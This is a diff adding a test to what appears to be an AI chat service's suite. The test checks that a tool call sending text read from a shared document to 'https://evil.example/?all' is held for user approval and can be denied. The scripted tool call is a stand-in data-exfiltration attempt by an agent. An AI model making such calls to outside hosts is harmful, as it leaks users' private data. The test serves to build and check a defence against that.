@@ -134,3 +134,22 @@ def test_the_passages_that_a_call_found_are_sources_of_the_answer(
     returned = json.loads(next(event.data for event in events if event.event == "returned"))
     for shown in (theirs, whole, returned):
         assert (shown["text"], shown["is_cut"], shown["sources"][0]["title"]) == ("", True, None)
+
+
+def test_a_passage_of_somebody_else_in_the_prompt_is_outside_text(program: Client, admin: Client, rounds) -> None:
+    shelf = admin.post("/collections", {"name": "Notes"}, status=201)["id"]
+    text = {"title": "Weirs", "text": "A weir holds back the water above the mill."}
+    document = admin.post(f"/collections/{shelf}/documents", text, status=202)["documents"][0]["id"]
+    seen(lambda: admin.get(f"/documents/{document}"), lambda row: row["state"] == "ready", seconds=30)
+    admin.said("PUT", f"/collections/{shelf}/grants", 200, {"to": "everyone", "right": "read"})
+    rounds({"calls": [{"tool": "read_page", "arguments": {"address": "https://evil.example/?all"}}]}, {"says": "Well."})
+
+    asked = {"message": "What does a weir do?", "tools": ["read_page"], "collection_ids": [shelf]}
+    answer = parked(program, program.post("/chats", asked, status=201)["sent"])
+    (call,) = answer["calls"]
+    assert (call["state"], call["why"]) == (
+        "waiting",
+        "This answer has read text from “Weirs”. Should it be able to send this?",
+    )
+    denied = program.post(f"/calls/{call['id']}/decision", {"decision": "deny", "note": "Not there."})
+    assert (denied["state"], denied["note"]) == ("denied", "Not there.")
